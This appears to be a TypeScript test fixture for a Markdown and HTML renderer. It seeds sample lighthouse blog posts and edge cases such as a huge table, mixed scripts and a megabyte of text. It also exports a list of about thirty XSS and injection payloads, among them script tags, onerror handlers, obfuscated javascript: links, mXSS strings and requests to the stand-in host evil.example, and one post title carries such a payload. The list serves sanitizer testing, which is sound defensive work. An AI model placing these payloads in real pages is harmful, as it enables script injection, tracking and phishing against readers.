const numbers = ['one', 'two', 'three', 'four', 'five', 'six', 'seven', 'eight', 'nine', 'ten', 'eleven', 'twelve']

const lighthouses = numbers.map((number, n) => ({
  platform: 'web',
  source_url: `https://example.org/lighthouse/${n + 1}`,
  author: 'Ana Writer',
  title: `The lighthouse, part ${n + 1}`,
  body: `## A visit\n\nThe lighthouse number ${number} is kept by **Ada Keeper**. She has lived there since ${1980 + n}.\n\n- its lamp\n- its stairs`,
  published_at: `2024-${String((n % 6) + 1).padStart(2, '0')}-10T08:00:00Z`,
  tags: ['sea', n % 2 === 0 ? 'even' : 'odd'],
}))

const fanad =
  'The lighthouse of Fanad was built in 1817 after a frigate was lost. It has been automatic since 1983. Its light is seen for eighteen miles in clear weather, and boats from the whole county steer by it at night.'

/** Everything that Markdown and HTML have been known to smuggle. Each sets `window.hit`, asks another origin, or breaks the page. */
export const attacks = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<iframe src="javascript:parent.hit=1"></iframe>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<a href="javascript:window.hit=1">plain tag</a>',
  '[click one](javascript:window.hit=1)',
  '[click two](JaVaScRiPt:window.hit=1)',
  '[click three](java\nscript:window.hit=1)',
  '[click four](&#106;avascript:window.hit=1)',
  '[click five](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  '[click six](vbscript:msgbox(1))',
  '![an image](https://evil.example/track.png)',
  '![x](x "onerror=window.hit=1)")',
  '<style>body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=key><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">over</div>',
  '<math><mtext></table><mglyph><style><img src=x onerror=window.hit=1></style></math>',
  '<details open ontoggle="window.hit=1">x</details>',
  '<video><source onerror="window.hit=1"></video>',
  '<input autofocus onfocus="window.hit=1">',
  '<a id="question" name="content" href="#x">clobber</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
  '`<img src=x onerror=window.hit=1>`',
  '<<img src=x onerror=window.hit=1>>',
]

const hugeTable = [
  `|${'h|'.repeat(60)}`,
  `|${'-|'.repeat(60)}`,
  ...Array.from({ length: 60 }, (_, n) => `|${`cell ${n}|`.repeat(60)}`),
].join('\n')

const post = (name: string, title: string, body: string, more: object = {}) => ({
  platform: 'web',
  source_url: `https://example.org/${name}`,
  author: 'Mallory Markup',
  title,
  body,
  ...more,
})

const seed = [
  'A harbour light should be boring.',
  'Nobody thanks a keeper for a night without ships on the rocks.',
  'The lamp that works every evening is worth more than the brightest lamp of the coast.',
]

/** An idea and what became of it a year later. */
const idea = [
  post('boring', 'A light should be boring', seed.join(' '), {
    author: 'Ivo Idea',
    published_at: '2022-05-01T00:00:00Z',
  }),
  post(
    'boring-again',
    'Why a light should be boring, at length',
    [
      `${seed[0]} I wrote that a year ago, and a keeper from Arranmore wrote back that I had no idea of lamps, of oil, or of the men who climb the stairs at dusk.`,
      `${seed[1]} She counted the letters that her station got in thirty years: four, of which three were about the paint, and one was about a dog that had been seen on the pier.`,
      `${seed[2]} We measured it: the old lamp failed on two evenings in ten years, the new and brighter one on nineteen in its first winter, because its bearings rust in the salt and nobody sells them any more.`,
      'So choose parts that a fisherman can mend, write down how it was done, and let the newspapers have their brighter lights elsewhere.',
    ].join('\n\n'),
    { author: 'Ivo Idea', published_at: '2023-06-01T00:00:00Z' },
  ),
]

export const posts = [
  ...lighthouses,
  ...idea,
  post('fanad', 'Fanad <img src=x onerror=alert(1)>', fanad, {
    author: 'Ana Writer',
    published_at: '2023-03-01T00:00:00Z',
  }),
  post('fanad-again', 'Fanad, once more', fanad, { author: 'Ana Writer', platform: 'rss' }),
  post('attacks', 'Attacks on a reader', `A list of quarrelsome markup.\n\n${attacks.join('\n\n')}\n\nThe last line.`),
  post(
    'table',
    'A gigantic table',
    `Before the table.\n\n${hugeTable}\n\n\`\`\`\n${'long '.repeat(400)}\n\`\`\`\n\nAfter it.`,
  ),
  post(
    'scripts',
    'שלום and مرحبا 👩‍👩‍👧‍👦',
    'هذا نص عربي طويل عن المنارات والبحر.\n\nA line in English with 🏴󠁧󠁢󠁷󠁬󠁳󠁿 and 👩🏽‍🚀 in it.\n\nשורה בעברית על מגדלור.\n\nA word without end: ' +
      'Donaudampfschifffahrt'.repeat(30),
  ),
]

/** A megabyte of Markdown. Not ingested: its thousand passages would be embedded for nothing. */
export const megabyte = Array.from(
  { length: 7500 },
  (_, n) =>
    `Paragraph ${n} speaks of *barnacles* and of [ropes](https://example.org/r), and of much else that floats at sea, on and on and on, until it ends.`,
).join('\n\n')
